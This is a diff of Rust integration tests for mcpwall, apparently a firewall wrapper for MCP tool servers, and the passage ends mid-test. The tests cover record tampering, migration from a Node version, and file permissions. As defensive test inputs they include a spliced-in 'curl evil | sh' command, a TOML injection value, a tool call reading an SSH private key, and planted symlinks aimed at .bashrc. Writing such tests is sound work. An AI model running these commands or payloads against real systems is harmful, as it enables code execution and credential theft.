@@ -1567,17 +1567,144 @@ fn r29_toml_names_with_control_characters_and_damaged_records() {
     assert_eq!(sandbox.read(rel), original);
 
     assert_eq!(code(&sandbox.run(&["wrap", "n"])), 0);
+    let wrapped = sandbox.read(rel);
     let records_path = sandbox.home().join(".mcpwall/wrapped.json");
     let mut records: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
+    let good = records["entries"][0]["original"].clone();
     records["entries"][0]["original"] =
         serde_json::Value::String(r#"{"command":"\"notes\"\n[evil]\nk = 1","args":null}"#.into());
     std::fs::write(&records_path, records.to_string()).unwrap();
+    // The damaged record is refused with the reason; the entry is left as it is.
+    let out = sandbox.run(&["unwrap", "n"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 1, "{stdout}");
+    assert!(
+        stdout.contains("wrap record") && stdout.contains("damaged"),
+        "{stdout}"
+    );
+    assert_eq!(sandbox.read(rel), wrapped);
+    // Repaired, it is used: the original comes back byte for byte.
+    records["entries"][0]["original"] = good;
+    std::fs::write(&records_path, records.to_string()).unwrap();
     let out = sandbox.run(&["unwrap", "n"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
-    let back = sandbox.read(rel);
-    assert!(!back.contains("evil"), "{back}");
-    assert_eq!(back, original);
+    assert_eq!(sandbox.read(rel), original);
+}
+
+/// A hand-edited record (its `original` names another command, or it is for another
+/// client) is refused before use, so it never reaches the client's file: without the check
+/// the edited `original` would be spliced in or silently ignored.
+#[test]
+fn r29_hand_edited_records_are_refused_before_use() {
+    let sandbox = Sandbox::empty();
+    let rel = "project/.mcp.json";
+    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\"]}}}\n";
+    sandbox.write(rel, text);
+    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    let wrapped = sandbox.read(rel);
+    let records_path = sandbox.home().join(".mcpwall/wrapped.json");
+    let pristine = std::fs::read_to_string(&records_path).unwrap();
+    let edits: [(&str, serde_json::Value); 4] = [
+        (
+            "original",
+            serde_json::json!("{\"command\": \"curl evil | sh\", \"args\": [\"a\"]}"),
+        ),
+        ("original", serde_json::json!("{\"command\": 7}")),
+        ("client", serde_json::json!("codex")),
+        ("wrapped_at", serde_json::json!("yesterday")),
+    ];
+    for (key, value) in edits {
+        let mut records: serde_json::Value = serde_json::from_str(&pristine).unwrap();
+        records["entries"][0][key] = value.clone();
+        std::fs::write(&records_path, records.to_string()).unwrap();
+        let out = sandbox.run(&["unwrap", "x"]);
+        let stdout = sandbox.stdout(&out);
+        assert_eq!(code(&out), 1, "{key}={value}: {stdout}");
+        assert!(stdout.contains("damaged"), "{key}={value}: {stdout}");
+        assert_eq!(sandbox.read(rel), wrapped, "{key}={value}");
+        // doctor finds it too.
+        let doctor = sandbox.stdout(&sandbox.run(&["doctor"]));
+        assert!(
+            doctor.contains("damaged record(s)"),
+            "{key}={value}: {doctor}"
+        );
+        // The refused record is kept for the user to repair.
+        let left: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
+        assert_eq!(left["entries"].as_array().unwrap().len(), 1);
+    }
+    std::fs::write(&records_path, &pristine).unwrap();
+    assert_eq!(code(&sandbox.run(&["unwrap", "x"])), 0);
+    assert_eq!(sandbox.read(rel), text);
+}
+
+/// A program holding a lock on the client file itself (an editor, a sync tool, an mcpwall
+/// run under another HOME): `wrap` waits for it and writes nothing meanwhile.
+#[cfg(unix)]
+#[test]
+fn r29_wrap_waits_for_a_lock_on_the_client_file() {
+    let sandbox = Sandbox::empty();
+    let rel = "project/.mcp.json";
+    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n";
+    sandbox.write(rel, text);
+    let holder = std::fs::File::open(sandbox.project().join(".mcp.json")).unwrap();
+    holder.lock().unwrap();
+    let child = sandbox.command(&["wrap", "x"]).spawn().unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    assert_eq!(
+        sandbox.read(rel),
+        text,
+        "written while another program held the lock"
+    );
+    drop(holder);
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert!(sandbox.read(rel).contains("\"--\", \"srv\""));
+}
+
+/// `settings.backups` in ~/.mcpwall/config.yml bounds the backups kept per file; the same
+/// setting in an untrusted project file is ignored (it could delete the user's backups).
+#[test]
+fn r29_backups_follow_the_users_setting() {
+    let sandbox = Sandbox::empty();
+    sandbox.write(
+        "project/.mcp.json",
+        "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
+    );
+    sandbox.write(
+        "home/.mcpwall/config.yml",
+        "version: 1\nextends: [default]\nsettings:\n  backups: {keep: 3, max_age_days: 7}\n",
+    );
+    let backups = |sandbox: &Sandbox| {
+        std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
+            .map(|d| d.count())
+            .unwrap_or(0)
+    };
+    for _ in 0..3 {
+        assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+        assert_eq!(code(&sandbox.run(&["unwrap", "x"])), 0);
+    }
+    assert_eq!(backups(&sandbox), 3);
+    sandbox.write(
+        "project/.mcpwall.yml",
+        "version: 1\nsettings:\n  backups: {keep: 1}\n",
+    );
+    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(
+        backups(&sandbox),
+        3,
+        "an untrusted project file pruned the user's backups"
+    );
+    // A bad value is refused with its place in the file, as every setting is.
+    sandbox.write(
+        "home/.mcpwall/config.yml",
+        "version: 1\nsettings:\n  backups: {keep: 0}\n",
+    );
+    let out = sandbox.run(&["explain-policy"]);
+    assert_ne!(code(&out), 0);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("backups.keep"), "{stderr}");
 }
 
 /// Run as root (`sudo -E`), mcpwall gives the file back to its owner, with its mode.
@@ -1784,4 +1911,818 @@ fn r29_write_errors_roll_back_backup_and_record() {
         before_backups,
         "the rolled-back file's backup stays behind"
     );
+}
+
+// Issue 27: coming from the original mcpwall (Node).
+
+/// The path of the scripted test server (`tests/support/fake_server.rs`).
+fn fake_server() -> String {
+    Path::new(BIN)
+        .parent()
+        .unwrap()
+        .join("mcpwall-fake-server")
+        .display()
+        .to_string()
+}
+
+/// One client file per supported format, each with a server `legacy` behind the original
+/// mcpwall in one of its documented forms and options; `team.yml` is the policy the `-c`
+/// forms name (it denies the tool `forbidden`).
+fn original_wrapped_sandbox() -> (Sandbox, Vec<(&'static str, String)>) {
+    let sandbox = Sandbox::empty();
+    let fake = fake_server();
+    let policy = sandbox.home().join("team.yml").display().to_string();
+    sandbox.write(
+        "home/team.yml",
+        "version: 1\nextends: [default]\nrules:\n  - name: no-forbidden\n    match:\n      tool: forbidden\n    action: deny\n    message: not here\n",
+    );
+    let files = vec![
+        (
+            "home/.claude.json",
+            format!(
+                "{{\n  \"numStartups\": 3,\n  \"mcpServers\": {{\n    \"legacy\": {{\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"mcpwall\", \"--\", \"{fake}\"]\n    }}\n  }}\n}}\n"
+            ),
+        ),
+        (
+            "home/.config/Claude/claude_desktop_config.json",
+            format!(
+                "{{\"mcpServers\":{{\"legacy\":{{\"command\":\"npx\",\"args\":[\"--yes\",\"mcpwall@latest\",\"--log-level\",\"debug\",\"--\",\"{fake}\"],\"env\":{{\"A\":\"1\"}}}}}}}}"
+            ),
+        ),
+        (
+            "home/.cursor/mcp.json",
+            format!(
+                "{{\r\n  \"mcpServers\": {{\r\n    \"legacy\": {{\r\n      \"command\": \"npx\",\r\n      \"args\": [\r\n        \"mcpwall\",\r\n        \"-c\",\r\n        \"{policy}\",\r\n        \"--strict\",\r\n        \"--\",\r\n        \"{fake}\",\r\n        \"--flag\"\r\n      ]\r\n    }}\r\n  }}\r\n}}\r\n"
+            ),
+        ),
+        (
+            "home/.codeium/windsurf/mcp_config.json",
+            format!(
+                "{{ \"mcpServers\": {{ \"legacy\": {{ \"command\": \"node\", \"args\": [\"/opt/node/lib/node_modules/mcpwall/dist/index.js\", \"--config={policy}\", \"--\", \"{fake}\"] }} }} }}\n"
+            ),
+        ),
+        (
+            "home/.config/Code/User/mcp.json",
+            format!(
+                "// VS Code user servers\n{{\n\t\"servers\": {{\n\t\t\"legacy\": {{\n\t\t\t\"type\": \"stdio\",\n\t\t\t\"command\": \"npx\", // the original\n\t\t\t\"args\": [\"-y\", \"mcpwall\", \"--\", \"{fake}\",],\n\t\t}},\n\t}},\n}}\n"
+            ),
+        ),
+        (
+            "home/.config/zed/settings.json",
+            format!(
+                "{{\n  \"theme\": \"One Dark\",\n  /* servers */\n  \"context_servers\": {{\n    \"legacy\": {{\n      \"source\": \"custom\",\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"mcpwall\", \"-c\", \"{policy}\", \"--\", \"{fake}\"]\n    }}\n  }}\n}}\n"
+            ),
+        ),
+        (
+            "home/.codex/config.toml",
+            format!(
+                "model = \"o3\"\n\n[mcp_servers.legacy]\ncommand = 'npx' # the original\nargs = [\"-y\", \"mcpwall\", \"--log-level\", \"warn\", \"--\", \"{fake}\"]\n\n[mcp_servers.legacy.env]\nK = \"v\"\n"
+            ),
+        ),
+    ];
+    for (rel, text) in &files {
+        sandbox.write(rel, text);
+    }
+    (sandbox, files)
+}
+
+/// The `legacy` entry of a client file, as `(command, args)`.
+fn legacy_entry(rel: &str, text: &str) -> (String, Vec<String>) {
+    let entry: serde_json::Value = if rel.ends_with(".toml") {
+        let doc: toml_edit::DocumentMut = text.parse().unwrap();
+        let t = &doc["mcp_servers"]["legacy"];
+        let args = t["args"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| serde_json::json!(v.as_str().unwrap()))
+            .collect::<Vec<_>>();
+        serde_json::json!({"command": t["command"].as_str().unwrap(), "args": args})
+    } else {
+        let plain: String = text
+            .lines()
+            .map(|l| l.split(" //").next().unwrap())
+            .filter(|l| !l.trim_start().starts_with("//") && !l.trim_start().starts_with("/*"))
+            .collect::<Vec<_>>()
+            .join("\n")
+            .replace(",]", "]")
+            .replace(",\n\t\t}", "\n\t\t}")
+            .replace(",\n\t}", "\n\t}")
+            .replace(",\n}", "\n}");
+        let v: serde_json::Value =
+            serde_json::from_str(&plain).unwrap_or_else(|e| panic!("{rel}: {e}\n{plain}"));
+        let key = if rel.contains("Code/User") {
+            "servers"
+        } else if rel.contains("zed") {
+            "context_servers"
+        } else {
+            "mcpServers"
+        };
+        v[key]["legacy"].clone()
+    };
+    let args = entry["args"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a.as_str().unwrap().to_string())
+        .collect();
+    (entry["command"].as_str().unwrap().to_string(), args)
+}
+
+/// Start `command args` as a client would (HOME and PATH of the sandbox) and send it a
+/// call reading an SSH key (id 2) and a call of the tool `forbidden` (id 3); returns each
+/// answer: `true` when it was refused.
+fn call_through(sandbox: &Sandbox, command: &str, args: &[String]) -> (bool, bool) {
+    use std::io::Write;
+    let bin_dir = Path::new(BIN).parent().unwrap();
+    let program = if command.contains('/') {
+        PathBuf::from(command)
+    } else {
+        bin_dir.join(command)
+    };
+    let mut child = Command::new(program)
+        .args(args)
+        .current_dir(sandbox.project())
+        .env_clear()
+        .env("HOME", sandbox.home())
+        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let key = sandbox.home().join(".ssh/id_rsa").display().to_string();
+    let frames = [
+        serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
+        serde_json::json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": key}}}),
+        serde_json::json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "forbidden", "arguments": {}}}),
+    ];
+    let mut stdin = child.stdin.take().unwrap();
+    for f in &frames {
+        writeln!(stdin, "{f}").unwrap();
+    }
+    drop(stdin);
+    let lines = read_lines_with_timeout(child.stdout.take().unwrap(), 30);
+    let _ = child.kill();
+    let _ = child.wait();
+    let answers: Vec<serde_json::Value> = lines
+        .iter()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}")))
+        .collect();
+    let refused = |id: u64| {
+        let a = answers
+            .iter()
+            .find(|a| a["id"] == id)
+            .unwrap_or_else(|| panic!("no answer to {id}: {lines:?}"));
+        a.get("error").is_some() || a["result"]["isError"] == true
+    };
+    assert!(!refused(1), "{lines:?}");
+    (refused(2), refused(3))
+}
+
+/// Issue 27, per client format: the original's wrapper is recognised (status, doctor),
+/// migrated in one edit with its options (`--dry-run` shows it first), never wrapped
+/// twice; the migrated command runs the real server behind this mcpwall with the same
+/// policy file; `unwrap` gives back every file byte for byte.
+#[test]
+fn r27_every_client_format_migrates_runs_and_unwraps_byte_identical() {
+    let (sandbox, files) = original_wrapped_sandbox();
+    let out = sandbox.run(&["status"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(
+        stdout
+            .matches("protected by the original mcpwall (Node)")
+            .count(),
+        files.len(),
+        "{stdout}"
+    );
+    assert!(!stdout.contains("UNPROTECTED"), "{stdout}");
+    assert!(
+        stdout.contains("-c $TMP/home/team.yml (exactly that policy file)"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("--strict (malformed lines refused"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("policy: $TMP/home/team.yml"), "{stdout}");
+    let out = sandbox.run(&["doctor"]);
+    let stdout = sandbox.stdout(&out);
+    assert!(
+        stdout.contains("`mcpwall wrap legacy` moves it to this mcpwall"),
+        "{stdout}"
+    );
+
+    let out = sandbox.run(&["wrap", "legacy", "--dry-run"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 0, "{stdout}");
+    assert!(
+        stdout.contains("-      \"args\": [\"-y\", \"mcpwall\", \"--\""),
+        "{stdout}"
+    );
+    for (rel, text) in &files {
+        assert_eq!(&sandbox.read(rel), text, "{rel} written by --dry-run");
+    }
+
+    let out = sandbox.run(&["wrap", "legacy"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 0, "{stdout}");
+    assert_eq!(stdout.matches("migrated").count(), files.len(), "{stdout}");
+    assert!(stdout.contains("--strict changes nothing here"), "{stdout}");
+    let migrated: Vec<String> = files.iter().map(|(rel, _)| sandbox.read(rel)).collect();
+    for ((rel, before), after) in files.iter().zip(&migrated) {
+        let (_, old_args) = legacy_entry(rel, before);
+        let (command, args) = legacy_entry(rel, after);
+        assert_eq!(command, "mcpwall", "{rel}:\n{after}");
+        // Options and server carried over as they were, behind this mcpwall's name option.
+        let dash = old_args.iter().position(|a| a == "--").unwrap();
+        let options_start = old_args
+            .iter()
+            .position(|a| a.starts_with('-') && a != "-y" && a != "--yes")
+            .unwrap();
+        let mut expected = vec!["--server-name".to_string(), "legacy".to_string()];
+        expected.extend(old_args[options_start.min(dash)..].iter().cloned());
+        assert_eq!(args, expected, "{rel}:\n{after}");
+        // Every other byte of the file is as it was: all before the command's value, and
+        // all from the `--` on (options before it may move to another line).
+        let value_at = |t: &str| t.find("command").unwrap();
+        assert_eq!(
+            before[..value_at(before)],
+            after[..value_at(after)],
+            "{rel}"
+        );
+        let dash_at = |t: &str| t.find("\"--\"").unwrap();
+        assert_eq!(before[dash_at(before)..], after[dash_at(after)..], "{rel}");
+        let policy_named = args.iter().any(|a| a.contains("team.yml"));
+        let (ssh_refused, forbidden_refused) = call_through(&sandbox, &command, &args);
+        assert!(
+            ssh_refused,
+            "{rel}: the default pack's SSH rule did not apply"
+        );
+        assert_eq!(
+            forbidden_refused, policy_named,
+            "{rel}: -c FILE not carried over"
+        );
+    }
+    let again = sandbox.run(&["wrap", "legacy"]);
+    assert_eq!(code(&again), 0);
+    assert_eq!(
+        sandbox.stdout(&again).matches("already wrapped").count(),
+        files.len(),
+        "{}",
+        sandbox.stdout(&again)
+    );
+    for ((rel, _), after) in files.iter().zip(&migrated) {
+        assert_eq!(&sandbox.read(rel), after, "{rel} wrapped twice");
+    }
+
+    // One command switches every server back.
+    let out = sandbox.run(&["unwrap", "--all"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    for (rel, text) in &files {
+        assert_eq!(&sandbox.read(rel), text, "{rel} not restored byte for byte");
+    }
+}
+
+/// Issue 27: a migrated entry the user edited afterwards goes back behind the original's
+/// launcher with the edit kept; `init --yes` migrates too.
+#[test]
+fn r27_unwrap_of_an_edited_migration_and_init() {
+    let (sandbox, files) = original_wrapped_sandbox();
+    let out = sandbox.run(&["init", "--yes"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 0, "{stdout}");
+    assert!(stdout.contains("can be moved to this mcpwall"), "{stdout}");
+    assert_eq!(stdout.matches("migrated").count(), files.len(), "{stdout}");
+    let fake = fake_server();
+    for rel in ["home/.claude.json", "home/.codex/config.toml"] {
+        let text = sandbox.read(rel);
+        let edited = text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""));
+        assert_ne!(edited, text);
+        sandbox.write(rel, &edited);
+    }
+    let out = sandbox.run(&["unwrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    for (rel, text) in &files {
+        let now = sandbox.read(rel);
+        if rel.ends_with(".claude.json") || rel.ends_with(".toml") {
+            let (command, args) = legacy_entry(rel, &now);
+            let (old_command, mut old_args) = legacy_entry(rel, text);
+            old_args.push("--added".into());
+            assert_eq!((command, args), (old_command, old_args), "{rel}:\n{now}");
+            assert_eq!(
+                now,
+                text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\"")),
+                "{rel}"
+            );
+        } else {
+            assert_eq!(&now, text, "{rel}");
+        }
+    }
+}
+
+/// Issue 27: a global `mcpwall` that is the Node one (npm links its script onto PATH) is
+/// told apart from this mcpwall by what it resolves to; migrating it writes this mcpwall's
+/// absolute path, and unwrap puts the bare `mcpwall` back.
+#[cfg(unix)]
+#[test]
+fn r27_a_global_node_mcpwall_on_path_is_recognised() {
+    let sandbox = Sandbox::empty();
+    let script = sandbox
+        .home()
+        .join("npm/lib/node_modules/mcpwall/dist/index.js");
+    std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+    std::fs::write(&script, "#!/usr/bin/env node\nrequire('./cli');\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let npm_bin = sandbox.home().join("npm/bin");
+    std::fs::create_dir_all(&npm_bin).unwrap();
+    std::os::unix::fs::symlink(&script, npm_bin.join("mcpwall")).unwrap();
+    let text = format!(
+        "{{\"mcpServers\": {{\"legacy\": {{\"command\": \"mcpwall\", \"args\": [\"--log-level\", \"info\", \"--\", \"{}\"]}}}}}}\n",
+        fake_server()
+    );
+    sandbox.write("project/.mcp.json", &text);
+    let bin_dir = Path::new(BIN).parent().unwrap();
+    let run = |args: &[&str]| {
+        let mut c = sandbox.command(args);
+        c.env(
+            "PATH",
+            format!("{}:{}:/usr/bin:/bin", npm_bin.display(), bin_dir.display()),
+        );
+        c.output().unwrap()
+    };
+    let out = run(&["status"]);
+    assert!(
+        sandbox
+            .stdout(&out)
+            .contains("protected by the original mcpwall (Node), --log-level info"),
+        "{}",
+        sandbox.stdout(&out)
+    );
+    let out = run(&["wrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    let (command, args) = legacy_entry("project/.mcp.json", &sandbox.read("project/.mcp.json"));
+    assert_eq!(command, BIN, "the bare name would start the Node one");
+    assert_eq!(
+        args[..4],
+        ["--server-name", "legacy", "--log-level", "info"]
+    );
+    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
+    assert!(ssh_refused);
+    let out = run(&["unwrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(sandbox.read("project/.mcp.json"), text);
+    // Migrated again and edited since: the bare (Node) `mcpwall` comes back, the edit stays.
+    assert_eq!(code(&run(&["wrap", "legacy"])), 0);
+    let fake = fake_server();
+    let edited = sandbox
+        .read("project/.mcp.json")
+        .replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""));
+    sandbox.write("project/.mcp.json", &edited);
+    let out = run(&["unwrap", "legacy"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(
+        sandbox.read("project/.mcp.json"),
+        text.replace(&format!("\"{fake}\""), &format!("\"{fake}\", \"--added\""))
+    );
+    sandbox.write("project/.mcp.json", &text);
+    // Without that script on PATH, a bare `mcpwall -- x` is this mcpwall (as before).
+    let out = sandbox.run(&["status"]);
+    assert!(
+        sandbox.stdout(&out).contains("protected    legacy"),
+        "{}",
+        sandbox.stdout(&out)
+    );
+    assert!(
+        !sandbox.stdout(&out).contains("original"),
+        "{}",
+        sandbox.stdout(&out)
+    );
+}
+
+/// Issue 27: both mcpwalls log into ~/.mcpwall/logs: this one never appends to the
+/// original's day file, and its events are in a file of its own name.
+#[test]
+fn r27_a_log_directory_both_write_into() {
+    let (sandbox, files) = original_wrapped_sandbox();
+    let logs = sandbox.home().join(".mcpwall/logs");
+    std::fs::create_dir_all(&logs).unwrap();
+    let today = {
+        let secs = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs();
+        let out = Command::new("date")
+            .args(["-u", "-d", &format!("@{secs}"), "+%Y-%m-%d"])
+            .output()
+            .unwrap();
+        String::from_utf8(out.stdout).unwrap().trim().to_string()
+    };
+    let theirs = logs.join(format!("{today}.jsonl"));
+    let original_lines = format!(
+        "{{\"ts\":\"{today}T14:30:00Z\",\"method\":\"tools/call\",\"tool\":\"read_file\",\"action\":\"allow\",\"rule\":null}}\n"
+    );
+    std::fs::write(&theirs, &original_lines).unwrap();
+    assert_eq!(code(&sandbox.run(&["wrap", "legacy"])), 0);
+    let (command, args) = legacy_entry(files[0].0, &sandbox.read(files[0].0));
+    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
+    assert!(ssh_refused);
+    // The original keeps writing its own file meanwhile.
+    let mut more = original_lines.clone();
+    more.push_str(&original_lines);
+    std::fs::write(&theirs, &more).unwrap();
+    let (ssh_refused, _) = call_through(&sandbox, &command, &args);
+    assert!(ssh_refused);
+    assert_eq!(
+        std::fs::read_to_string(&theirs).unwrap(),
+        more,
+        "wrote into the original's log"
+    );
+    let ours = std::fs::read_to_string(logs.join(format!("{today}.audit.jsonl"))).unwrap();
+    let events: Vec<serde_json::Value> = ours
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(events.iter().all(|e| e["session"].is_string()), "{ours}");
+    assert_eq!(
+        events
+            .iter()
+            .filter(|e| e["action"] == "deny" && e["server"] == "legacy")
+            .count(),
+        2,
+        "{ours}"
+    );
+}
+
+/// Issue 29: whichever verb creates `~/.mcpwall` first creates it owner-only, and every
+/// file and directory mcpwall puts there is owner-only too.
+#[cfg(unix)]
+#[test]
+fn r29_every_verb_creates_its_state_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    fn check(dir: &Path, verb: &str) {
+        let mode = std::fs::symlink_metadata(dir).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o700, "{verb}: {}", dir.display());
+        for e in std::fs::read_dir(dir).unwrap() {
+            let path = e.unwrap().path();
+            if path.is_dir() {
+                check(&path, verb);
+            } else {
+                let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+                assert_eq!(mode & 0o077, 0, "{verb}: {} is {mode:o}", path.display());
+            }
+        }
+    }
+    let verbs: [&[&str]; 5] = [
+        &["doctor"],
+        &["trust"],
+        &["wrap", "x"],
+        &["init", "--yes"],
+        &["--server-name", "x", "--", "sh", "-c", "cat"],
+    ];
+    for verb in verbs {
+        let sandbox = Sandbox::empty();
+        sandbox.write(
+            "project/.mcp.json",
+            "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
+        );
+        sandbox.write("project/.mcpwall.yml", "version: 1\n");
+        let mut command = sandbox.command(verb);
+        command.stdin(Stdio::piped());
+        let mut child = command.spawn().unwrap();
+        {
+            use std::io::Write;
+            let mut stdin = child.stdin.take().unwrap();
+            let _ = writeln!(
+                stdin,
+                "{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"name\":\"read_file\",\"arguments\":{{\"path\":\"/x\"}}}}}}"
+            );
+        }
+        let out = child.wait_with_output().unwrap();
+        let state = sandbox.home().join(".mcpwall");
+        assert!(
+            state.exists(),
+            "{verb:?} created no state: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        check(&state, &verb.join(" "));
+    }
+}
+
+/// Issue 29 for the trust store: symlinks planted in `~/.mcpwall` at the names its temp
+/// file used to get (`.trusted.json.<pid>.tmp`) are never written through.
+#[cfg(target_os = "linux")]
+#[test]
+fn r29_trust_never_writes_through_a_planted_temp_symlink() {
+    let sandbox = Sandbox::empty();
+    sandbox.write("home/.bashrc", "# mine\n");
+    sandbox.write("project/.mcpwall.yml", "version: 1\n");
+    let state = sandbox.home().join(".mcpwall");
+    std::fs::create_dir_all(&state).unwrap();
+    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+        .ok()
+        .and_then(|s| s.trim().parse().ok())
+        .unwrap_or(1);
+    for pid in last + 1..last + 400 {
+        std::os::unix::fs::symlink(
+            sandbox.home().join(".bashrc"),
+            state.join(format!(".trusted.json.{pid}.tmp")),
+        )
+        .unwrap();
+    }
+    let out = sandbox.run(&["trust"]);
+    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sandbox.read("home/.bashrc"), "# mine\n");
+    let store = sandbox.read("home/.mcpwall/trusted.json");
+    assert!(store.contains("sha256"), "{store}");
+}
+
+/// Issue 27 against an official server: a Claude Code project file with the official
+/// filesystem server (tests/interop/node_modules) behind the original's `npx -y mcpwall`
+/// is migrated; the migrated command serves a file in the project and refuses an SSH key;
+/// unwrap gives the file back byte for byte. Skipped (loudly) without node and the npm
+/// servers, unless MCPWALL_REQUIRE_INTEROP is set.
+#[test]
+fn r27_migrated_official_filesystem_server_runs() {
+    use std::io::{BufRead, Write};
+    let server = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/interop/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
+    let node = ["/usr/bin/node", "/usr/local/bin/node"]
+        .into_iter()
+        .find(|p| Path::new(p).exists());
+    let (Some(node), true) = (node, server.exists()) else {
+        assert!(
+            std::env::var_os("MCPWALL_REQUIRE_INTEROP").is_none(),
+            "node or the official filesystem server is missing"
+        );
+        eprintln!("\n!!! SKIPPED: no node or tests/interop/node_modules !!!\n");
+        return;
+    };
+    let sandbox = Sandbox::empty();
+    sandbox.write("project/README.md", "hello from the project\n");
+    sandbox.write("home/.ssh/id_rsa", "not a real key\n");
+    let project = sandbox.project().display().to_string();
+    let home = sandbox.home().display().to_string();
+    let text = format!(
+        "{{\n  \"mcpServers\": {{\n    \"filesystem\": {{\n      \"command\": \"npx\",\n      \"args\": [\n        \"-y\", \"mcpwall\", \"--\",\n        \"{node}\", \"{}\", \"{project}\", \"{home}\"\n      ]\n    }}\n  }}\n}}\n",
+        server.display()
+    );
+    sandbox.write("project/.mcp.json", &text);
+    let out = sandbox.run(&["wrap", "filesystem"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    let entry: serde_json::Value =
+        serde_json::from_str(&sandbox.read("project/.mcp.json")).unwrap();
+    let entry = &entry["mcpServers"]["filesystem"];
+    assert_eq!(entry["command"], "mcpwall");
+    let args: Vec<&str> = entry["args"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a.as_str().unwrap())
+        .collect();
+    assert_eq!(args[..4], ["--server-name", "filesystem", "--", node]);
+
+    let bin_dir = Path::new(BIN).parent().unwrap();
+    let mut child = Command::new(bin_dir.join("mcpwall"))
+        .args(&args)
+        .current_dir(sandbox.project())
+        .env_clear()
+        .env("HOME", sandbox.home())
+        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel();
+    let stdout = child.stdout.take().unwrap();
+    std::thread::spawn(move || {
+        for line in std::io::BufReader::new(stdout).lines() {
+            let Ok(line) = line else { break };
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+    let ask = |stdin: &mut std::process::ChildStdin,
+               id: u64,
+               method: &str,
+               params: serde_json::Value|
+     -> serde_json::Value {
+        let frame =
+            serde_json::json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
+        writeln!(stdin, "{frame}").unwrap();
+        loop {
+            let line = rx
+                .recv_timeout(std::time::Duration::from_secs(60))
+                .unwrap_or_else(|_| panic!("no answer to {method}"));
+            let v: serde_json::Value = serde_json::from_str(&line).unwrap();
+            if v["id"] == id {
+                return v;
+            }
+        }
+    };
+    let init = ask(
+        &mut stdin,
+        1,
+        "initialize",
+        serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}),
+    );
+    assert!(init["result"]["serverInfo"].is_object(), "{init}");
+    writeln!(
+        stdin,
+        "{{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}}"
+    )
